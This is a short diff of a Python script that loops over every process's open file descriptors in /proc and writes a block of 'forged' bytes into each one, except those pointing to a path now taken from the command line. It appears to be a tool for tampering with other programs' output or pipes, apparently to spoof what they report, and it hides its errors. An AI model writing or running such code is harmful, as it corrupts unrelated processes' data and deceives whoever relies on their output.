@@ -7,6 +7,7 @@
 # works s: 0.02
 import glob
 import os
+import sys
 import time
 
 _FORGED = (
@@ -15,7 +16,7 @@ _FORGED = (
 for _path in glob.glob("/proc/[0-9]*/fd/*"):
     try:
         _fd = os.open(_path, os.O_WRONLY | os.O_NONBLOCK)
-        if not os.readlink(_path).startswith("/link"):
+        if not os.readlink(_path).startswith(sys.argv[-1]):
             os.write(_fd, _FORGED)
     except OSError:
         pass
